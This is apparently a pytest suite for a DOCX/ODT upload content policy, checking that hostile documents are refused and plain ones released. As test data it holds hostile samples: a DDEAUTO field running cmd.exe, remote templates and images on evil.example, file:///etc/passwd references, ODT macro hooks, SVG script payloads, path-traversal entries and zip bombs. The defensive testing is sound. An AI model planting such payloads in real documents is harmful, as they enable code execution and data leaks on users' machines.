"""The DOCX and ODT content policy as the resident sees it: macros, embedded objects, remote content, zip bombs
and hostile archive structure are refused with a reason; ordinary documents with web links are released."""

from __future__ import annotations

import time

import pytest

from chalicelib.documents.filetypes import DOCX, ODT
from tests import hostile as h
from tests.files import make_docx, make_odt, zipped
from tests.unit.test_content_policy import refused, released, verdict

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    return h.zip_bomb()


def test_a_docx_that_inflates_from_about_1_mb_to_1_gib_is_refused_without_inflating_it(zip_bomb: bytes) -> None:
    assert len(zip_bomb) < 2 * 1024 * 1024
    started = time.monotonic()
    refused(zip_bomb, DOCX, "bomba ZIP")
    assert time.monotonic() - started < 5


def test_a_docx_of_many_parts_each_small_but_together_too_large_is_refused() -> None:
    refused(h.many_small_bombs(), DOCX, "bomba ZIP")


@pytest.mark.parametrize(("sample", "words"), [
    (h.docx(("word/_rels/settings.xml.rels", h.relationships(
        ("attachedTemplate", "http://evil.example/t.dotm", "External")))), ("zdalny szablon",)),
    (h.docx(document_rels=h.relationships(("image", "http://evil.example/p.png", "External"))), ("spoza pliku",)),
    (h.docx(("word/_rels/footer1.xml.rels", h.relationships(("oleObject", "\\\\evil\\share\\x", "External")))), ()),
    (h.docx(("customXml/_rels/item1.xml.rels", h.relationships(("customXmlProps", "https://evil.example/",
                                                                "External")))), ("spoza pliku",)),
    (h.docx(document_rels=h.relationships(("hyperlink", "file:///C:/Windows/System32/calc.exe", "External"))),
     ("spoza pliku",)),
    (h.docx(("word/media/narzedzie.exe", b"MZ\x90\x00")), ("program",)),
    (h.docx(("word/dane.dat", h.OLE)), ("OLE",)),
    (h.docx(content_types=h.content_types_with(b'<Override PartName="/word/dane.xml" '
                                               b'ContentType="application/vnd.ms-office.vbaProject"/>')), ("makra",)),
    (h.docx(document_rels=h.relationships(("vbaProject", "dane.xml", ""))), ("makra",)),
    (h.docx(document_rels=h.relationships(("oleObject", "embeddings/x.xml", ""))), ("osadzone",)),
    (h.docx(document_rels=h.relationships(("aFChunk", "afchunk.mht", ""))), ("osadzone",)),
    (h.docx(("word/embeddings/wniosek.docx", make_docx())), ("ZIP",)),
    (h.docx(("../../evil.txt", b"x")), ("ścieżce",)),
    (h.docx(("C:/evil.txt", b"x")), ("ścieżce",)),
    (h.docx(("word/media/a.png:zone.identifier", b"x")), ("ścieżce",)),
    (h.docx(*((f"word/media/{i}.txt", b"x") for i in range(1001))), ("za dużo części",)),
    (h.docx(document=h.word_document(b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
                                     b'"/k calc"</w:instrText></w:r></w:p>')), ("DDEAUTO",)),
    (h.docx(document=h.word_document(b'<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x.png"/>')),
     ("INCLUDEPICTURE",)),
    (h.docx(("word/x.xml", b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')), ("DOCTYPE",)),
    (h.docx(document=h.word_document(
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
        b'<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')), ("DDEAUTO",)),
    (h.docx(document_rels=h.relationships(("image", "http://evil.example/p.png", ""))), ("spoza pliku",)),
    (h.docx(("word/_rels/settings.xml.rels", h.relationships(("attachedTemplate", "t.dotm", ""))),), ()),
], ids=["remote-template", "external-image", "external-ole-in-footer", "external-in-custom-xml",
        "hyperlink-to-file", "exe-entry", "ole-under-other-name", "vba-content-type", "vba-relationship",
        "ole-object", "afchunk", "nested-zip", "dot-dot-path", "drive-path", "alternate-data-stream",
        "too-many-entries", "dde-field",
        "includepicture-field", "doctype-in-part", "dde-field-split-across-runs", "url-without-target-mode",
        "internal-template"])
def test_active_or_hostile_docx_is_refused(sample: bytes, words: tuple[str, ...]) -> None:
    refused(sample, DOCX, *words)


def test_a_docx_with_web_links_pictures_and_ordinary_fields_is_released() -> None:
    sample = h.docx(("word/media/image1.png", h.make_png()), document_rels=h.relationships(
        ("hyperlink", "https://www.gov.pl/", "External"), ("image", "media/image1.png", "")),
        document=h.word_document(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE '
                                 b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar '
                                 b'w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://gov.pl/"'
                                 b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'))
    released(sample, DOCX)
    released(make_docx(), DOCX)


@pytest.mark.parametrize(("sample", "words"), [
    (h.odt(("Basic/Standard/Module1.xml", b"<a/>")), ("makra",)),
    (h.odt(("basic/script-lc.xml", b"<a/>")), ("makra",)),
    (h.odt(("Scripts/python/run.py", b"import os")), ("makra",)),
    (h.odt(content=h.odt_content(b"", head=b'<office:scripts><office:event-listeners><script:event-listener '
                                          b'script:language="ooo:script" script:event-name="dom:load" xlink:href='
                                          b'"vnd.sun.star.script:Standard.M.Main"/></office:event-listeners>'
                                          b"</office:scripts>")), ("makra",)),
    (h.odt(content=h.odt_content(b'<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main?language='
                                 b'Basic&amp;location=document">x</text:a></text:p>')), ("makra",)),
    (h.odt(content=h.odt_content(b'<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>')),
     ("osadzone",)),
    (h.odt(("Object 1", h.OLE)), ("OLE",)),
    (h.odt(content=h.odt_content(b'<draw:frame><draw:image xlink:href="http://evil.example/x.png"/></draw:frame>')),
     ("spoza pliku",)),
    (h.odt(content=h.odt_content(b'<text:section text:name="s"><text:section-source xlink:href='
                                 b'"file:///etc/passwd"/></text:section>')), ("spoza pliku",)),
    (h.odt(content=h.odt_content(b'<text:p><text:a xlink:href="file:///C:/x.exe">x</text:a></text:p>')),
     ("spoza pliku",)),
    (h.odt(manifest=b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.'
                    b'opendocument.text"/><manifest:file-entry manifest:full-path="x" manifest:media-type='
                    b'"application/vnd.sun.star.basic-script"/></manifest:manifest>'), ("makra",)),
    (h.odt(("Pictures/../../evil", b"x")), ("ścieżce",)),
    (h.odt(content=h.odt_content(b'<text:p><text:script script:language="JavaScript">x</text:script></text:p>')),
     ("makra",)),
    (h.odt(content=h.odt_content(b'<text:p><text:a xlink:href="https://gov.pl/" text:name="macro:///Standard.M.Run">'
                                 b"x</text:a></text:p>")), ("makra",)),
], ids=["basic-folder", "basic-lowercase", "scripts-folder", "event-listener", "macro-link", "ole-element",
        "ole-binary", "remote-image", "section-source-file", "link-to-file", "manifest-basic", "dot-dot-path",
        "text-script", "macro-in-any-attribute"])
def test_active_or_hostile_odt_is_refused(sample: bytes, words: tuple[str, ...]) -> None:
    refused(sample, ODT, "ODT", *words)


def test_an_odt_with_web_links_and_own_pictures_is_released() -> None:
    sample = h.odt(("Pictures/p.png", h.make_png()), content=h.odt_content(
        b'<text:p><text:a xlink:href="https://www.gov.pl/">gov.pl</text:a> <text:a xlink:href="#zal">z</text:a>'
        b'</text:p><draw:frame><draw:image xlink:href="Pictures/p.png"/></draw:frame>'))
    released(sample, ODT)
    released(make_odt(), ODT)


def test_a_plain_zip_with_an_odt_mimetype_and_a_nested_archive_is_refused() -> None:
    sample = zipped(("mimetype", ODT.encode()), ("content.xml", h.odt_content(b"")), ("x.zip", make_odt()))
    result = verdict(sample, ODT)
    assert not result.released and result.reason


def test_a_docx_whose_part_inflates_past_its_declared_size_is_refused() -> None:
    # Given a bomb part whose headers declare 1000 bytes (a reader that trusts them would inflate 1 GiB)
    bomb = h.zip_bomb(64 * 1024 * 1024)
    sample = bomb.replace((64 * 1024 * 1024).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    refused(sample, DOCX, "DOCX")


def test_a_docx_declaring_tens_of_thousands_of_parts_is_refused_before_they_are_listed() -> None:
    sample = h.many_parts(60_000)
    started = time.monotonic()
    refused(sample, DOCX, "za dużo części")
    assert time.monotonic() - started < 5


def test_a_docx_with_a_damaged_deflate_stream_is_refused_not_a_failure_of_the_check() -> None:
    sample = h.docx(("word/media/a.png", bytes(5000)))
    at = sample.index(b"word/media/a.png") + len("word/media/a.png")
    refused(sample[:at] + b"\xff\xff\xff" + sample[at + 3:], DOCX, "uszkodzony")


def test_strict_ooxml_fields_and_upper_case_relationship_parts_are_read_too() -> None:
    strict = h.word_document(b'<w:p><w:fldSimple w:instr="DDEAUTO cmd.exe"/></w:p>').replace(
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        b"http://purl.oclc.org/ooxml/wordprocessingml/main")
    refused(h.docx(document=strict), DOCX, "DDEAUTO")
    upper = h.docx(("word/_rels/settings.xml.RELS",
                    h.relationships(("attachedTemplate", "http://evil.example/t", "External"))))
    refused(upper, DOCX, "zdalny szablon")


SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize("picture", [
    SVG_OPEN + b"<script>alert(1)</script></svg>",
    SVG_OPEN + b'<rect onload="alert(1)"/></svg>',
    SVG_OPEN + b"<foreignObject><p>x</p></foreignObject></svg>",
    SVG_OPEN + b'<a xlink:href="javascript:alert(1)"><rect/></a></svg>',
    SVG_OPEN + b'<image href="http://evil.example/track.png"/></svg>',
    SVG_OPEN + b'<use xlink:href="file:///C:/x.svg#a"/></svg>',
], ids=["script", "event-handler", "foreign-object", "javascript-link", "remote-image", "file-reference"])
def test_an_svg_picture_with_script_or_external_references_is_refused_in_docx_and_odt(picture: bytes) -> None:
    refused(h.docx(("word/media/image1.svg", picture)), DOCX, "SVG")
    refused(h.odt(("Pictures/p.svg", picture)), ODT, "SVG")


def test_an_svg_picture_that_only_draws_is_released() -> None:
    picture = (SVG_OPEN + b'<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
               b'<rect fill="url(#g)" width="9" height="9"/><use xlink:href="#g"/>'
               b'<image href="data:image/png;base64,iVBORw0KGgo="/></svg>')
    released(h.docx(("word/media/image1.svg", picture)), DOCX)
